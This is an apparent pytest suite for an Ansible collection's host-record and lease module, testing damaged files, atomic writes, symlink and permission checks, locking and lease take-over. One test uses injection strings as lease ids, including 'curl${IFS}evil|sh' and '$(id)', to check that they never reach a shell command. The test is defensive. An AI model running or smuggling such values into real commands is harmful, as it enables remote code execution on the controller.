# -*- coding: utf-8 -*-
# Copyright (c) 2026, the pgfleet.cache authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import json
import os
import stat

import pytest
from ansible_collections.pgfleet.cache.plugins.module_utils import _host_record
from ansible_collections.pgfleet.cache.plugins.module_utils._errors import ResidencyError
from ansible_collections.pgfleet.cache.plugins.module_utils._host_record import LARGEST, Records

ALICE = {
    "id": "a1", "owner": "alice", "controller": "ctl1", "pid": 4711, "since": "2026-11-21T06:00:00Z", "what": "rolling_restart",
    "data_directory": "/data",
}
BOB = dict(ALICE, id="b1", owner="bob", controller="ctl2")
NOTHING = {"record": None, "lease": None, "fault": ""}


@pytest.fixture
def records(tmp_path):
    return Records(str(tmp_path))


def lease_of(records, name="db1"):
    return records.read(name)["lease"]


# --- reading ---


def test_nothing(records, tmp_path):
    assert records.read("db1") == NOTHING == Records(str(tmp_path / "none")).read("db1")
    assert records.leases() == [] == Records(str(tmp_path / "none")).leases()
    assert os.listdir(str(tmp_path)) == [], "reading leaves nothing"


@pytest.mark.parametrize("content", [b"", b"{", b"[1]", b"5", b"null", b"\xff\xfe", b"[" * 100000, b'{"rolling_restart": "9"} x'])
@pytest.mark.parametrize(("ending", "other"), [(".json", "lease"), (".lease", "record")])
def test_damaged(records, tmp_path, content, ending, other):
    (tmp_path / ("db1.json" if other == "record" else "db1.lease")).write_text('{"id": "5"}')
    (tmp_path / ("db1" + ending)).write_bytes(content)
    found = records.read("db1")
    assert found["fault"] == "%s is damaged" % (tmp_path / ("db1" + ending)) and found[other] == {"id": "5"}
    assert [one["name"] for one in records.leases()] == (["db1"] if other == "lease" else [])


def test_huge(records, tmp_path):
    """No more is read than a record can have: what is beyond it is cut, and damaged thereby."""
    (tmp_path / "db1.json").write_text(json.dumps({"rolling_restart": "9" * LARGEST}))
    assert records.read("db1")["fault"].endswith("is damaged")
    (tmp_path / "db2.json").write_text(json.dumps({"rolling_restart": "9" * (LARGEST // 2)}))
    assert records.read("db2")["fault"] == ""


def test_a_symbolic_link_is_not_followed(records, tmp_path):
    (tmp_path / "other").write_text("{}")
    (tmp_path / "db1.json").symlink_to(tmp_path / "other")
    assert "db1.json cannot be read: Too many levels of symbolic links" in records.read("db1")["fault"]


def test_a_fifo_does_not_hang(records, tmp_path):
    os.mkfifo(str(tmp_path / "db1.json"))
    os.mkfifo(str(tmp_path / "db1.lease"))
    assert "is damaged" in records.read("db1")["fault"] and records.leases() == []


def test_a_directory_where_a_file_should_be(records, tmp_path):
    (tmp_path / "db1.json").mkdir()
    found = records.read("db1")
    assert found["record"] is None and found["fault"]


# --- writing ---


def test_written(records, tmp_path):
    records._store("db1.json", {"state": "saved", "name": "\u00fc"})
    before = os.stat(str(tmp_path / "db1.json"))
    records._store("db1.json", {"state": "restarting"})
    after = os.stat(str(tmp_path / "db1.json"))
    assert records.read("db1") == dict(NOTHING, record={"state": "restarting"})
    assert (tmp_path / "db1.json").read_text() == '{\n  "state": "restarting"\n}\n'
    assert stat.S_IMODE(after.st_mode) == 0o644 and before.st_ino != after.st_ino, "another file in its place"
    assert os.listdir(str(tmp_path)) == ["db1.json"]


def test_whatever_the_mask_is_others_can_read_it(records, tmp_path):
    mask = os.umask(0o077)
    try:
        records._store("db1.json", {})
    finally:
        os.umask(mask)
    assert stat.S_IMODE(os.stat(str(tmp_path / "db1.json")).st_mode) == 0o644


def test_what_an_earlier_write_has_left(records, tmp_path):
    (tmp_path / "db1.json.new").write_text("x" * 1000)
    records._store("db1.json", {})
    assert os.listdir(str(tmp_path)) == ["db1.json"] and records.read("db1")["record"] == {}


def test_a_write_that_fails_leaves_the_old_one(records, tmp_path, monkeypatch):
    records._store("db1.json", {"state": "saved"})

    def full(dummy):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(_host_record.os, "fsync", full)
    with pytest.raises(ResidencyError, match=r"db1.json cannot be written: No space left on device. Nothing is changed until it can be."):
        records._store("db1.json", {"state": "restarting"})
    assert os.listdir(str(tmp_path)) == ["db1.json"] and records.read("db1")["record"] == {"state": "saved"}


def test_a_link_is_not_written_through(records, tmp_path):
    (tmp_path / "db1.json.new").symlink_to(tmp_path / "other")
    with pytest.raises(ResidencyError, match="Too many levels of symbolic links"):
        records._store("db1.json", {})
    assert not (tmp_path / "other").exists()


def test_a_directory_that_is_none(tmp_path):
    (tmp_path / "file").write_text("")
    for path in ("file", "file/below"):
        records = Records(str(tmp_path / path))
        with pytest.raises(ResidencyError, match="orrect pgfleet_state_directory"):
            records.prepare()
        with pytest.raises(ResidencyError, match=r"Not a directory. Correct pgfleet_state_directory"), records.locked():
            pass
        with pytest.raises(ResidencyError, match="cannot be written"):
            records._store("db1.json", {})
        assert "cannot be read: Not a directory" in records.read("db1")["fault"]


@pytest.fixture
def trusted(tmp_path, monkeypatch):
    """The directory of the tests, as if nobody else could write above it: /tmp is not only ours."""
    real = os.path.realpath
    monkeypatch.setattr(_host_record.os.path, "dirname", lambda path: path if path == real(str(tmp_path)) else os.path.split(path)[0])
    os.chmod(str(tmp_path), 0o755)
    return tmp_path


def test_prepared(trusted):
    Records(str(trusted / "a" / "b")).prepare()
    assert (trusted / "a" / "b").is_dir()
    Records(str(trusted / "a" / "b")).prepare()


@pytest.mark.parametrize("mode", [0o777, 0o775, 0o757])
def test_what_others_can_replace(trusted, mode):
    (trusted / "a").mkdir()
    os.chmod(str(trusted / "a"), mode)
    for path in ("a", "a/b"):
        with pytest.raises(ResidencyError, match=r"/a can be replaced by users other than root: choose another pgfleet_state_directory\."):
            Records(str(trusted / path)).prepare()
    os.chmod(str(trusted / "a"), 0o1777)  # as /tmp: others cannot replace what is ours
    Records(str(trusted / "a" / "b")).prepare()


@pytest.mark.skipif(os.geteuid() != 0, reason="gives a directory to another user")
def test_what_belongs_to_another(trusted):
    (trusted / "a").mkdir()
    os.chown(str(trusted / "a"), 65534, 65534)
    with pytest.raises(ResidencyError, match="can be replaced by users other than root"):
        Records(str(trusted / "a" / "b")).prepare()


def test_it_is_where_a_link_leads_that_counts(trusted):
    (trusted / "a").mkdir()
    os.chmod(str(trusted / "a"), 0o777)
    (trusted / "link").symlink_to(trusted / "a")
    with pytest.raises(ResidencyError, match="/a can be replaced"):
        Records(str(trusted / "link")).prepare()


def test_a_full_file_system(trusted, monkeypatch):
    real = os.statvfs(str(trusted))
    full = os.statvfs_result([*real[:4], 1, *real[5:]])
    monkeypatch.setattr(_host_record.os, "statvfs", lambda dummy: full)
    with pytest.raises(ResidencyError, match=r"is full, so this run cannot be recorded on the host. Free some space."):
        Records(str(trusted)).prepare()


def test_one_at_a_time(records, tmp_path, monkeypatch):
    """Held by an open file: gone with the process, and with the end of the block, whatever ends it."""
    monkeypatch.setattr(_host_record, "LOCKED", 0.1)
    with pytest.raises(KeyError), records.locked():
        with pytest.raises(ResidencyError, match=r"/\.lock has been locked by another process"), records.locked():
            pass
        raise KeyError
    with records.locked():
        pass
    # nobody else can open it, and so keep others waiting
    assert (tmp_path / ".lock").stat().st_mode & 0o777 == 0o600


# --- the lease ---


@pytest.mark.parametrize("name", ["run;curl${IFS}evil|sh", "$(id)", "{{ lookup('pipe', 'id') }}", "a b", "", "x" * 100])
def test_no_command_of_a_host_is_shown(name):
    """It is pasted into a shell of the controller."""
    assert "pgfleet_take_over" not in _host_record.way_out({"id": name})
    assert _host_record.way_out({"id": "run-0a1b2c3d"}).endswith("-e pgfleet_take_over=run-0a1b2c3d.")


def test_taken_and_given_back(records):
    assert records.take("db1", ALICE) == {"held_by": None, "taken_over": None}
    assert lease_of(records) == ALICE
    assert records.take("db1", ALICE) == {"held_by": None, "taken_over": None}, "it is ours already"
    assert records.release("db1", "b1") is False and lease_of(records)["id"] == "a1"
    assert records.release("db1", "a1") is True and lease_of(records) is None
    assert records.release("db1", "a1") is False


def test_held_by_another(records):
    records.take("db1", ALICE)
    found = records.take("db1", BOB)
    assert found["held_by"]["id"] == "a1" and found["taken_over"] is None and lease_of(records)["id"] == "a1"
    assert records.take("db2", dict(BOB, data_directory="/other"))["held_by"] is None, "another server of this host"


def test_taken_over_by_its_id(records):
    records.take("db1", ALICE)
    assert records.take("db1", BOB, ["c1"])["held_by"]["id"] == "a1"
    found = records.take("db1", BOB, ["c1", "a1"])
    assert found["held_by"] is None and found["taken_over"]["owner"] == "alice" and lease_of(records)["id"] == "b1"


def test_the_same_server_under_another_name(records, tmp_path):
    records.take("db1.example.com", ALICE)
    assert records.take("db1", BOB)["held_by"]["name"] == "db1.example.com"
    assert records.take("db1", dict(BOB, data_directory=""))["held_by"] is None, "its server is down: nobody knows which it is"
    records.release("db1", "b1")
    assert records.take("db1", BOB, ["a1"])["taken_over"]["name"] == "db1.example.com"
    assert sorted(os.listdir(str(tmp_path))) == ["db1.lease"]


def test_two_who_are_taken_over(records, tmp_path):
    records.take("db1", ALICE)
    records._store("other.lease", dict(ALICE, id="c1"))
    assert records.take("db1", BOB, ["a1", "c1"])["held_by"] is None
    assert [one["id"] for one in records.leases()] == ["b1"]


def test_the_first_is_taken_over_and_the_second_is_not(records):
    records._store("aaa.lease", ALICE)
    records._store("zzz.lease", dict(ALICE, id="c1", owner="carol"))
    assert records.take("db1", BOB, ["a1"])["held_by"]["id"] == "c1"
    assert [one["id"] for one in records.leases()] == ["a1", "c1"], "nothing was changed"


@pytest.mark.parametrize("lease", [{}, {"owner": ["x"], "pid": {}}, {"owner": "a\x1b[2J" * 1000}])
def test_an_owner_can_be_anything(lease):
    assert len(_host_record.owner(lease)) < 600 and "\x1b" not in _host_record.owner(lease)


# --- the record ---


def test_an_event(records, tmp_path):
    records.take("db1", ALICE)
    found = records.event("db1", "a1", "begin", {"rolling_restart": "9", "what": "host"}, ["thin"])
    assert (found["state"], found["what"], found["remarks"]) == ("planned", "host", ["thin"]) and found == records.read("db1")["record"]
    later = records.event("db1", "a1", "going_out", {"traffic": []}, phase="out")
    assert later["intent"] == "going out" and later["seconds"]["out"] >= 0 and later["at"] >= found["at"], "on top of what is there"
    assert lease_of(records) == ALICE


def refuses(records, tmp_path, message, lease="a1", event="resumed"):
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    with pytest.raises(ResidencyError, match=message):
        records.event("db1", lease, event, {})
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_an_event_of_a_run_that_has_lost_its_lease(records, tmp_path):
    records.take("db1", ALICE)
    refuses(records, tmp_path, r"held by alice on ctl1 \(rolling_restart, process 4711, since 2026-11-21T06:00:00Z\): that run has to finish", "b1")
    records.release("db1", "a1")
    refuses(records, tmp_path, r"of this host was removed. Run the playbook again.")


def test_a_directory_that_another_process_makes_first(tmp_path, monkeypatch):
    """As with several clusters of a host, each an inventory host."""
    mkdir = os.mkdir

    def second(path, *arguments, **options):
        mkdir(path)
        mkdir(path, *arguments, **options)

    monkeypatch.setattr(os, "mkdir", second)
    Records(str(tmp_path / "var" / "state")).prepare()
    assert (tmp_path / "var" / "state").is_dir()


@pytest.mark.parametrize(("name", "content", "said"), [
    ("db1.json", "{", r"db1\.json is damaged: check what was begun on the host, then remove the file\."),
    ("db1.json", '{"state": "gone"}', r"db1\.json is damaged \(state is 'gone'\): check what was begun"),
    ("db1.lease", "{", r"db1\.lease is damaged: check"),
])
def test_an_event_on_a_damaged_file(records, tmp_path, name, content, said):
    records.take("db1", ALICE)
    (tmp_path / name).write_text(content)
    refuses(records, tmp_path, said)
